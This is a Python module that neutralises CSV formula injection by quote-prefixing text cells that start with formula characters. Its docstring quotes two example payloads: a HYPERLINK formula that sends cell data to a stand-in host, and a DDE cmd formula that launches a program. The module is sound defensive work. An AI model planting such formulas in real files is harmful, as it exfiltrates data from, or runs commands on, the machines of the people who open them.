"""CSV files a person downloads and opens in a spreadsheet: no text cell may start a formula.

Client names, descriptions and quarantined rows come from outside; a cell like
`=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0` runs when the file is opened
in Excel or LibreOffice. OWASP's rule (CSV injection): a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading single quote, which spreadsheets show as
text and do not evaluate. Numeric-typed values (numbers, Decimal money, dates) are written as
they are: a negative amount is money, not a formula, and must stay a number for the reader's
sums. Every CSV download goes through `frame_csv` (polars frames) or `rows_csv` (rows of
values); both apply the one rule below. Decisions: docs/security.md."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

import polars as pl

FORMULA_CHARS = "=+-@\t\r"
_FORMULA_START = "^[" + re.escape(FORMULA_CHARS) + "]"
TEXT_TYPES = (pl.String, pl.Categorical, pl.Enum)


def neutralise(value: Any) -> Any:
    """The rule: text starting with a formula character gets a leading `'`; anything that is
    not text (numbers, Decimal, dates, None) is returned as it is."""
    if isinstance(value, str) and value[:1] and value[0] in FORMULA_CHARS:
        return "'" + value
    return value


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """`neutralise` on every text column, as one vectorised pass (a page's table can have
    100,000 rows); numeric, date and boolean columns are untouched."""
    text = [name for name, dtype in frame.schema.items() if isinstance(dtype, TEXT_TYPES)]
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(_FORMULA_START))
        .then(pl.lit("'") + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text
    )


def frame_csv(frame: pl.DataFrame) -> str:
    """A frame as downloadable CSV text, text cells neutralised."""
    return neutralise_frame(frame).write_csv()


def rows_csv(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> str:
    """Rows of typed values as downloadable CSV text ("\\n" line ends, None as empty), text
    cells neutralised. Pass numbers as numbers (int, Decimal): a number passed as text is
    treated as text."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if value is None else neutralise(value) for value in row])
    return out.getvalue()
